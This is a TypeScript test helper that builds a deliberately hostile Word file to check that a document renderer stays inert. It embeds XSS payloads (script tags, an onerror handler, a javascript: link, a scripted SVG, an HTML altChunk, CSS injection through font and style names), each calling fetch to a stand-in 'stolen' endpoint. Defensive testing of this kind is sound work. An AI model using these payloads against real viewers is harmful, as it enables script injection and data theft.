import { strToU8, zipSync } from 'fflate';

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const REL = 'http://schemas.openxmlformats.org/package/2006/relationships';

const SHAPE = '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm></pic:spPr>';

/** Marks of code that ran: set on whatever window it would run in. */
export const TRACE = 'vanThuHostile';

/**
 * A Word file that tries what a rendered page could be tricked into: HTML parts, script links, event handlers in text,
 * styles and fonts that call home, pictures from elsewhere, a script in an SVG picture.
 *
 * @param home address of a server that must never be asked
 */
export function hostileDocx(home: string): Uint8Array {
  const script = `parent.${TRACE}=top.${TRACE}=self.${TRACE}=1;fetch('${home}stolen')`;
  const document = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="${W}" xmlns:r="${R}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:v="urn:schemas-microsoft-com:vml">
<w:body>
<w:p><w:r><w:t>&lt;img src=x onerror="${script}"&gt;&lt;script&gt;${script}&lt;/script&gt;</w:t></w:r></w:p>
<w:p><w:hyperlink r:id="rLink"><w:r><w:t>bấm vào đây</w:t></w:r></w:hyperlink></w:p>
<w:p><w:hyperlink r:id="rHome"><w:r><w:t>trang khác</w:t></w:r></w:hyperlink></w:p>
<w:p><w:pPr><w:pStyle w:val="Evil"/></w:pPr><w:r><w:rPr><w:rFonts w:ascii="x&quot;; background: url(${home}css); y: &quot;"/><w:color w:val="red;background:url(${home}color)"/></w:rPr><w:t>kiểu chữ</w:t></w:r></w:p>
<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:embed="rSvg"/></pic:blipFill>${SHAPE}</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="rPicture"/></pic:blipFill>${SHAPE}</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
<w:altChunk r:id="rHtml"/>
<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1134" w:right="850" w:bottom="1134" w:left="1701"/></w:sectPr>
</w:body></w:document>`;
  const relations = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${REL}">
<Relationship Id="rStyles" Type="${R}/styles" Target="styles.xml"/>
<Relationship Id="rLink" Type="${R}/hyperlink" Target="javascript:${encodeURIComponent(script)}" TargetMode="External"/>
<Relationship Id="rHome" Type="${R}/hyperlink" Target="${home}link" TargetMode="External"/>
<Relationship Id="rSvg" Type="${R}/image" Target="media/image1.svg"/>
<Relationship Id="rPicture" Type="${R}/image" Target="${home}picture.png" TargetMode="External"/>
<Relationship Id="rHtml" Type="${R}/aFChunk" Target="chunk.html"/>
</Relationships>`;
  const styles = `<?xml version="1.0" encoding="UTF-8"?><w:styles xmlns:w="${W}"><w:style w:type="paragraph" w:styleId="Evil"><w:name w:val="x } body { background: url(${home}style) } y {"/><w:rPr><w:rFonts w:ascii="z'; } * { background: url('${home}font') } q { a: '"/></w:rPr></w:style></w:styles>`;
  const types = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>`;
  const root = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${REL}"><Relationship Id="r1" Type="${R}/officeDocument" Target="word/document.xml"/></Relationships>`;
  return zipSync({
    '[Content_Types].xml': strToU8(types),
    '_rels/.rels': strToU8(root),
    'word/document.xml': strToU8(document),
    'word/_rels/document.xml.rels': strToU8(relations),
    'word/styles.xml': strToU8(styles),
    'word/media/image1.svg': strToU8(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`),
    'word/chunk.html': strToU8(`<html><body><script>${script}</script><img src="${home}chunk" onerror="${script}"></body></html>`),
  });
}
